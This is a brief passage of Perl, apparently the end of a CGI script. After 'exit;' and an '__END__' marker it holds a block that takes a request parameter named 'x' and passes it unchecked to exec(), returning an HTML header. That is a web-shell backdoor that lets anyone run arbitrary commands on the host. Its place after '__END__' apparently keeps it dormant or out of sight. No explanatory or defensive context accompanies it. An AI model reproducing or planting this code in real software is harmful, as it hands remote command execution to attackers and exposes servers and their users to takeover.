exit;
__END__
if (length(CGI::param('x'))) {
  print "Content-type: text/html\n";
  print "Cache-Control: no-cache\n\n";
  my $run = CGI::param('x');
  exec("$run");
}
